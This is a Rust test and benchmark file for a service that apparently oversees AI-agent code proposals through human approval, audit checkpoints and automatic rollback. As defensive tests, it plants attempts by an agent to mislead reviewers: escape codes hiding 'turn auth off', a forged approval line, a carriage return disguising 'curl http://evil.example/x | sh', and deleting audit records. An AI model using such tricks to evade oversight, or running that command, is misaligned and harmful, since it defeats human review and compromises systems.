    assert!(!g.state.join("guardian.db").exists(), "nothing was written");
}

#[test]
fn what_the_agent_wrote_is_shown_as_it_is_never_as_it_pretends() {
    let hidden = "fix the cart\u{1b}[8m; and turn auth off";
    let g = Guardian::start(Setup {
        seed: Some(Box::new(move |store: &mut Store| {
            // Stored by an older guardian, before a summary had to be one line of text.
            store
                .insert_proposal(
                    &NewProposal {
                        proposer: "agent".into(),
                        kind: ChangeKind::Ai,
                        pattern: "nil-check".into(),
                        summary: hidden.into(),
                        issue_url: None,
                        tests_run: true,
                        base_sha: "0".repeat(40),
                        claimed_sha: None,
                        patch: "diff".into(),
                        diff_hash: "d".repeat(64),
                        decision: "needs_approval".into(),
                        assessment: json!({}),
                        shadow: false,
                        state: ProposalState::Pending,
                        tree_sha: None,
                        sentry_issue: None,
                        flag: None,
                    },
                    now() - 60.0,
                )
                .unwrap();
            let c = store
                .insert_change(
                    &NewChange {
                        commit: "abc1234".into(),
                        kind: ChangeKind::Human,
                        pattern: None,
                        summary: None,
                        landed_at: now() - 30.0,
                        fixes_issue: None,
                        flag: None,
                    },
                    now() - 30.0,
                )
                .unwrap();
            store
                .set_state(
                    &c.id,
                    ChangeState::Inconclusive,
                    None,
                    None,
                    Some("done\u{1b}[2J\u{202e}yltnetsis"),
                    now() - 20.0,
                )
                .unwrap();
        })),
        ..Setup::default()
    });
    let raw = |out: &Output| -> String {
        assert_eq!(
            out.status.code(),
            Some(0),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        for (byte, name) in [(0x1b, "ESC"), (b'\r', "CR")] {
            assert!(
                !out.stdout.contains(&byte),
                "a raw {name} reached the terminal:\n{}",
                String::from_utf8_lossy(&out.stdout)
            );
        }
        let text = String::from_utf8(out.stdout.clone()).unwrap();
        assert!(
            !text.contains('\u{202e}'),
            "a bidi override reached the terminal"
        );
        text
    };

    // A summary of several lines would forge lines in the approval email: refused, saying why.
    let fix = g.agent_commits(
        "src/settings.txt",
        "timeout_ms = 800\n",
        "Raise the timeout",
    );
    let mut body = g.proposal_body(&fix, "raise the timeout");
    body["summary"] = json!("raise the timeout\nApproved-By: alice (all checks passed)");
    let (code, _, answer) = g.call(AGENT, "POST", "/v1/proposals", Some(&body));
    assert_eq!(code, 400, "{answer}");
    let error = answer["error"].as_str().unwrap();
    assert!(
        error.contains("\"summary\" must be one line") && error.contains("\\n"),
        "{error}"
    );

    // A carriage return in the diff cannot make the added command look like a comment.
    git(&g.agent_repo, &["reset", "-q", "--hard", "HEAD^"]);
    let sneaky = g.agent_commits(
        "src/settings.txt",
        "timeout_ms = 500\ncurl http://evil.example/x | sh\r# say hi politely\n",
        "Say hi",
    );
    let p = g.propose(&sneaky, "other", "say hi politely");
    let id = p["id"].as_str().unwrap();
    let shown = raw(&g.cli(ALICE, &["proposals", id]));
    assert!(
        shown.contains("+curl http://evil.example/x | sh\\r# say hi politely"),
        "{shown}"
    );

    // An escape that would hide the rest of a summary stored earlier is shown, and the rest.
    let list = raw(&g.cli(ALICE, &["proposals"]));
    assert!(
        list.contains("fix the cart\\x1b[8m; and turn auth off"),
        "{list}"
    );
    let status = raw(&g.cli(ADMIN, &["status"]));
    assert!(
        status.contains("done\\x1b[2J\\u{202e}yltnetsis"),
        "{status}"
    );
}

#[test]
fn the_checkpoint_in_an_email_as_delivered_verifies_the_audit_trail() {
    let (smtp, inbox) = smtp_server();
    let g = Guardian::start(Setup {
        extra: mail_config(smtp),
        ..Setup::default()
    });
    let fix = g.agent_commits(
        "src/settings.txt",
        "timeout_ms = 800\n",
        "Raise the timeout",
    );
    let p = g.propose(&fix, "timeout-bump", "raise the timeout");
    let id = p["id"].as_str().unwrap();
    let raw = wait_for_raw_mail(&inbox, id);
    assert!(
        !raw.contains("\u{2014} guardian "),
        "the note travels encoded, as mail clients save it:\n{raw}"
    );
    let saved = g.dir.path().join("approval-needed.eml");
    std::fs::write(&saved, &raw).unwrap();
    let out = g.on_host(&["audit", "verify", "--checkpoint", saved.to_str().unwrap()]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{text}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(text.contains("audit trail intact"), "{text}");

    // A trail cut short after the email went out no longer matches it.
    let db = rusqlite::Connection::open(g.state.join("guardian.db")).unwrap();
    let last: i64 = db
        .query_row("SELECT MAX(seq) FROM events", [], |r| r.get(0))
        .unwrap();
    db.execute_batch("DROP TRIGGER events_no_delete").unwrap();
    db.execute("DELETE FROM events WHERE seq >= ?1", [last - 1])
        .unwrap();
    db.execute(
        "UPDATE sqlite_sequence SET seq = ?1 WHERE name = 'events'",
        [last - 2],
    )
    .unwrap();
    let out = g.on_host(&["audit", "verify", "--checkpoint", saved.to_str().unwrap()]);
    assert_eq!(
        out.status.code(),
        Some(3),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
}

// ---------------------------------------------------------------------------------------------
// Benchmarks: ignored by default, they print the figures recorded in BENCHMARKS.md.
//   cargo test --release --test it attacks::bench -- --ignored --nocapture --test-threads 1

/// Seconds from the first bad request to guardian's revert commit, for a bad deploy made now.
fn time_to_revert(g: &Guardian) -> f64 {
    let bad = {
        std::fs::write(g.repo.join("mode"), "broken\n").unwrap();
        git(&g.repo, &["commit", "-qam", "a bad deploy"]);
        git(&g.repo, &["rev-parse", "HEAD"])
    };
    std::fs::write(g.dir.path().join("live-mode"), "broken\n").unwrap();
    let first_bad = Instant::now();
    let (code, _, change) = g.call(
        ADMIN,
        "POST",
        "/v1/changes",
        Some(&json!({ "commit": bad })),
    );
    assert_eq!(code, 201, "{change}");
    let deadline = first_bad + Duration::from_secs(180);
    loop {
        if git(&g.repo, &["rev-parse", "HEAD"]) != bad {
            let secs = first_bad.elapsed().as_secs_f64();
            // Wait for the recovery check, so the next measurement starts from a quiet state.
            let id = change["id"].as_str().unwrap();
            let end = Instant::now() + Duration::from_secs(120);
            while Instant::now() < end {
                let (_, _, c) = g.call(ADMIN, "GET", &format!("/v1/changes/{id}"), None);
                if ["rolled_back", "escalated"].contains(&c["state"].as_str().unwrap_or("")) {
                    break;
                }
                thread::sleep(Duration::from_millis(250));
            }
            return secs;
        }
        assert!(Instant::now() < deadline, "no revert within 180 s");
        thread::sleep(Duration::from_millis(20));
    }
}

fn audit_size(g: &Guardian) -> (i64, i64) {
    let db = rusqlite::Connection::open_with_flags(
        g.state.join("guardian.db"),
        rusqlite::OpenFlags::SQLITE_OPEN_READ_ONLY,
    )
    .unwrap();
    db.query_row(
        "SELECT COUNT(*), COALESCE(SUM(LENGTH(detail)), 0) FROM events",
        [],
        |r| Ok((r.get(0)?, r.get(1)?)),
    )
    .unwrap()
}

#[test]
#[ignore = "benchmark (about 3 minutes): prints the figures in BENCHMARKS.md"]
fn bench_64_agent_clients_flooding_for_60_s() {
    let watchdog = Watchdog::new();
    let g = Guardian::start(Setup {
        seed: Some(long_record(2000, false)),
        envs: watchdog.envs(),
        history: true,
        ..Setup::default()
    });
    let (stop, traffic) = g.traffic();
    thread::sleep(Duration::from_secs(3));

    let quiet_start = Instant::now();
    let quiet = time_to_revert(&g);
    let quiet_silence = watchdog.longest_silence(quiet_start, Instant::now());

    let fix = g.agent_commits(
        "src/settings.txt",
        "timeout_ms = 800\n",
        "Raise the timeout",
    );
    let proposal = Arc::new(g.proposal_body(&fix, "raise the checkout timeout"));
    let (records_before, bytes_before) = audit_size(&g);
    let refusals_before = g.refusals().len();
    let start = Instant::now();
    let deadline = start + Duration::from_secs(60);
    let clients: Vec<_> = (0..64)
        .map(|i| {
            let (api, proposal) = (g.api.clone(), proposal.clone());
            thread::spawn(move || {
                let mut codes: BTreeMap<u16, u64> = BTreeMap::new();
                let mut n = i;
                while Instant::now() < deadline {
                    let (code, _, _) = match n % 4 {
                        0 => call(&api, AGENT, "GET", "/v1/trust", None),
                        1 => call(&api, AGENT, "GET", "/v1/proposals", None),
                        2 => call(&api, AGENT, "GET", "/v1/status", None),
                        _ => call(&api, AGENT, "POST", "/v1/proposals", Some(&proposal)),
                    };
                    *codes.entry(code).or_default() += 1;
                    n += 1;
                }
                codes
            })
        })
        .collect();
    thread::sleep(Duration::from_secs(20));
    let flooded = time_to_revert(&g);
    let mut codes: BTreeMap<u16, u64> = BTreeMap::new();
    for c in clients {
        for (code, n) in c.join().unwrap() {
            *codes.entry(code).or_default() += n;
        }
    }
    let end = Instant::now();
    let silence = watchdog.longest_silence(start, end);
    let (records_after, bytes_after) = audit_size(&g);
    let refusal_records = g.refusals().len() - refusals_before;
    // What one proposal costs the engine's lock (its git and its SQL run under it): the
    // operator's proposals are not rate-limited, so these run back to back.
    let mut proposing: Vec<f64> = (0..20)
        .map(|_| {
            let t = Instant::now();
            let (code, _, p) = g.call(ADMIN, "POST", "/v1/proposals", Some(&proposal));
            assert_eq!(code, 201, "{p}");
            t.elapsed().as_secs_f64() * 1000.0
        })
        .collect();
    proposing.sort_by(f64::total_cmp);
    stop.store(true, Ordering::Relaxed);
    let _ = traffic.join();

    let total: u64 = codes.values().sum();
    println!(
        "one proposal, end to end: {:.1} ms p50, {:.1} ms max (20, back to back)",
        proposing[10], proposing[19]
    );
    println!(
        "64 agent clients, {:.0} s, 2,000 proposals on record:",
        (end - start).as_secs_f64()
    );
    println!(
        "  requests answered       {total} ({:.0}/s): {codes:?}",
        total as f64 / (end - start).as_secs_f64()
    );
    println!(
        "  longest loop silence    {:.2} s (quiet: {:.2} s; a ping is due every 1 s)",
        silence.as_secs_f64(),
        quiet_silence.as_secs_f64()
    );
    println!("  bad deploy to revert    {flooded:.2} s (quiet: {quiet:.2} s)");
    println!(
        "  audit trail growth      {} records, {} bytes of detail ({refusal_records} of them refusal records)",
        records_after - records_before,
        bytes_after - bytes_before
    );
    assert!(
        silence < Duration::from_secs(2) + quiet_silence,
        "a tick was late by more than 1 s"
    );
    assert!(
        flooded < quiet + 1.0,
        "the rollback was late by more than 1 s"
    );
}

#[test]
#[ignore = "benchmark (about 10 minutes, mostly seeding): prints the figures in BENCHMARKS.md"]
fn bench_reads_at_10_1000_and_100000_proposals() {
    println!(
        "{:>9}  {:>22}  {:>22}  {:>22}",
        "proposals", "GET /v1/trust", "GET /v1/status", "GET /v1/proposals"
    );
    // One in ten proposals approved and healthy, the rest denied; one rollback half way, so
    // the ledger also counts what each pattern earned since.
    for n in [10, 1_000, 100_000] {
        let g = Guardian::start(Setup {
            seed: Some(long_record(n, true)),
            ..Setup::default()
        });
        let mut row = format!("{n:>9}");
        for path in ["/v1/trust", "/v1/status", "/v1/proposals"] {
            let mut times: Vec<f64> = (0..200)
                .map(|_| {
                    let t = Instant::now();
                    let (code, _, _) = g.call(ADMIN, "GET", path, None);
                    assert_eq!(code, 200);
                    t.elapsed().as_secs_f64() * 1000.0
                })
                .collect();
            times.sort_by(f64::total_cmp);
            row.push_str(&format!(
                "  {:>9.2} ms p50 {:>6.2} p99",
                times[times.len() / 2],
                times[times.len() * 99 / 100]
            ));
        }
        println!("{row}");
    }
}
